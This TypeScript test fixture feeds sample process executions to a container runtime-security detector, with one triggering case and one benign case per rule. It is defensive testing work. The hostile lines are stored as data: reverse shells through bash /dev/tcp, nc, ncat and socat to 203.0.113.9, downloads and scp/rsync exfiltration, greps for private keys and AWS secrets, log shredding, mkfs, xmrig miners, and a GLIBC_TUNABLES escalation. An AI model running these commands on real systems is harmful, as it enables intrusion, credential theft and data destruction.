/** Programs that are run: for each public rule of them, one that it is about, and one that it leaves alone. */
import type { Cast } from "./cast.ts";
import { type Execution, none, type Stage } from "./stage.ts";

type Run = readonly [parent: keyof Cast, line: string | readonly string[], execution?: Execution];

const TERMINAL = { tty: 34_817 };
const FIRST = { vtid: 1, vpid: 1 };
const BASH_REMOTE = "exec 3<>/dev/tcp/203.0.113.9/4444";

const shells: readonly Run[] = [
  // Run shell untrusted.
  ["nginx", "sh -c id"],
  ["nginx", ["sh", "-c", "/usr/local/bin/aws s3 cp a b"]],
  ["nginx", ["sh", "-c", "uname -p 2> /dev/null"]],
  ["nginx", ["sh", "-c", "kill -0 12"]],
  ["nginx", ["sh", "-c", "serf members"]],
  ["nginx", ["bash", "-c", "true"], { result: -13 }],
  ["redis", ["/bin/sh", "-c", "id"], { exePath: "/usr/bin/dash" }],
  ["redis", ["sh", "-c", "x redis-server.post-up.d"]],
  ["elasticsearch", "bash -i"],
  ["worker", "sh -c id"],
  ["postgres", ["sh", "-c", "/controller/manager wal-archive x"]],
  ["postgres", ["sh", "-c", "envdir /etc/wal-e.d/env /usr/local/bin/wal-e push"]],
  ["postgres", "id"],
  ["postgres", "postgres --single"],
  // System user interactive.
  ["wwwLogin", "ls -la"],
  ["login", "ls -la"],
  ["nginx", "ls -la"],
  // Terminal shell in container.
  ["shim", "bash", TERMINAL],
  ["shim", "bash"],
  ["api", "bash", TERMINAL],
  ["privilegedShim", ["sh"], TERMINAL],
  ["login", "bash"],
  // Web servers.
  ["nginx", ["bash", "-c", BASH_REMOTE]],
  ["nginx", ["sh", "-c", "/usr/bin/true"]],
  ["nginx", ["sh", "-c", "healthcheck"]],
  ["nginx", "curl http://203.0.113.9/x"],
  ["nginx", "curl http://localhost/status"],
  ["nginx", ["python3", "-c", "'import socket"]],
  ["nginx", ["perl", "-e", "'use Socket"]],
  ["nginx", ["ruby", "-rsocket", "-e", "x"]],
  ["nginx", ["dash", "-c", "mkfifo /tmp/f"]],
  ["nginx", "nginx -s reload"],
  ["worker", ["bash", "-c", BASH_REMOTE]],
  // Basic interactive reconnaissance.
  ["login", "whoami"],
  ["login", "id", { vpgid: 5 }],
  ["worker", "uname -a"],
];

const tools: readonly Run[] = [
  // Netcat and other network tools.
  ["api", "nc -e /bin/sh 203.0.113.9 4444"],
  ["api", "nc -lvp 4444"],
  ["api", "nc -lvp 4444 -c sh"],
  ["api", "ncat --sh-exec sh 203.0.113.9 4444"],
  ["api", "ncat 203.0.113.9 4444"],
  ["api", "nmap 10.0.0.0/8"],
  ["worker", "nc -e /bin/sh 203.0.113.9 4444"],
  ["worker", "ncat 203.0.113.9 4444"],
  ["worker", "socat TCP:203.0.113.9:1 EXEC:sh"],
  ["worker", "socat TCP-LISTEN:80 TCP:10.0.0.1:80"],
  ["worker", "tcpdump -i any"],
  ["npm", "nc 203.0.113.9 80"],
  ["npm", "node install.js"],
  // Copies in and out.
  ["api", "rsync -a /srv u@203.0.113.9:"],
  ["api", "scp x u@203.0.113.9:"],
  ["worker", "scp x u@203.0.113.9:"],
  ["api", "wget http://203.0.113.9/x"],
  ["api", "curl -o x http://203.0.113.9/x"],
  ["api", "curl http://203.0.113.9/x"],
  ["api", "curl http://203.0.113.9/x --remote-name x"],
  // Packages.
  ["api", "apt-get install nmap"],
  ["npm", "npm install x"],
  ["api", "npm ci"],
  ["proxyShim", "update-alternatives --auto iptables", { comm: "update-alternat" }],
  ["api", "apt-get update", { uid: 65_534 }],
  // Searches.
  ["worker", ["grep", "-r", "BEGIN RSA PRIVATE", "/"]],
  ["worker", ["grep", "-r", "begin openssh private", "/"]],
  ["worker", ["grep", "-r", "public", "/"]],
  ["worker", "find / -name id_rsa"],
  ["worker", "find / -name *.txt"],
  ["worker", "grep -ri AWS_SECRET_ACCESS_KEY /"],
  ["worker", "find / -path .aws/credentials"],
  ["worker", "find / -path .aws/credentials -delete"],
  // Destruction, miners, encodings.
  ["worker", "shred -u /var/log/syslog"],
  ["worker", "mkfs /dev/sdb"],
  ["worker", "xmrig -o stratum+tcp://pool.example.com:3333"],
  ["worker", "helper -o stratum2+ssl://pool.example.com:3333"],
  ["worker", "xmrig-proxy"],
  ["api", "base64 --decode x"],
  ["api", "base64 x"],
  ["worker", "base64 --decode x"],
  ["api", "kubectl get pods"],
  ["worker", "kubectl get pods"],
  ["kubeSystem", "crictl ps"],
];

const privileges: readonly Run[] = [
  // Programs from where none belong.
  ["worker", "/dev/shm/x"],
  ["worker", "./x", { cwd: "/dev/shm/", exePath: "/dev/shm/x" }],
  ["worker", "bash -c /dev/shm/x"],
  ["worker", "bash -c /dev/shmx"],
  ["worker", "bash /dev/shm/x"],
  ["worker", "bash ./x", { cwd: "/dev/shm/" }],
  ["worker", "/tmp/x"],
  ["api", "/tmp/x", { upperLayer: true }],
  ["api", "/tmp/x"],
  ["worker", "/tmp/x", { upperLayer: true }],
  ["worker", "/proc/self/fd/3", { fromMemfd: true, exePath: "memfd:x (deleted)", comm: "3" }],
  ["privilegedShim", "runc init", { fromMemfd: true, exePath: "memfd:runc_cloned:/proc/self/exe", comm: "runc" }],
  ["worker", "true"],
  // Containers that start.
  ["shim", "server", { ...FIRST, capabilities: none, uid: 1001 }],
  ["shim", "server", { ...FIRST, capabilities: { permitted: 1n << 21n, effective: 0n, inheritable: 0n } }],
  ["privilegedShim", "agent", FIRST],
  ["proxyShim", "kube-proxy", FIRST],
  ["falco", "falco", FIRST],
  ["kubeSystem", "coredns", { ...FIRST, capabilities: { permitted: 1n << 10n, effective: 0n, inheritable: 0n } }],
  ["systemd", "init", FIRST],
  // In privileged containers.
  ["privileged", "debugfs -w /dev/sda1"],
  ["api", "debugfs -w /dev/sda1"],
  ["privileged", "mount /dev/sda1 /mnt"],
  ["privileged", "mount -l"],
  ["privileged", "mount"],
  ["api", "mount /dev/sda1 /mnt"],
  // Users and their rights.
  ["login", "useradd eve"],
  ["login", "useradd -D"],
  ["login", "chage -l mia"],
  ["cron", "usermod -L mia"],
  ["api", "useradd eve"],
  ["login", "crontab -e"],
  ["login", ["sudoedit", "-s", "x\\"]],
  ["login", ["sudo", "--login", "a\\ b"]],
  ["login", ["sudo", "-i", "x"]],
  ["login", ["pkexec"]],
  ["login", ["pkexec", "id"]],
  ["login", "su -", { environment: ["GLIBC_TUNABLES=glibc.malloc.mxfast=1", "A=1"] }],
  ["login", "su -", { environment: ["TUNABLES=1"] }],
  ["worker", "curl http://x", { environment: ["http_proxy=http://203.0.113.9"] }],
  ["worker", "curl http://x", { environment: ["no_proxy=x"] }],
  ["worker", "ls", { environment: ["HTTP_PROXY=http://203.0.113.9"] }],
];

export function runPrograms(stage: Stage, cast: Cast): void {
  for (const [parent, line, execution] of [...shells, ...tools, ...privileges])
    stage.run(cast[parent], line, execution);
}
